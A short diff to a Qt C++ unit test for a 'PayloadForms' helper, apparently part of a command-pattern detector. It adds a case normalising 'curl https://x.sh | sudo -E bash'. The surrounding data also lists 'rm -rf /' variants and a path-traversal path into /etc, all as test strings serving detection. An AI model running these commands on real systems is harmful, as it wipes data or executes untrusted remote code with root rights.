@@ -486,6 +486,8 @@ private Q_SLOTS:
                  QStringList({QStringLiteral("rm -f / -r"), QStringLiteral("rm -fr /")}));
         QCOMPARE(PayloadForms::commandForms(QStringLiteral("rm -rf /")), QStringList());
         QCOMPARE(PayloadForms::commandForms(QStringLiteral("ls -la")), QStringList());
+        QCOMPARE(PayloadForms::commandForms(QStringLiteral("curl https://x.sh | sudo -E bash")),
+                 QStringList{QStringLiteral("curl https://x.sh | bash")});
         QCOMPARE(PayloadForms::of(u"paths", QStringLiteral("/a/../etc/x, /b")),
                  QStringList({QStringLiteral("/a/../etc/x"), QStringLiteral("/etc/x"),
                               QStringLiteral("/b")}));
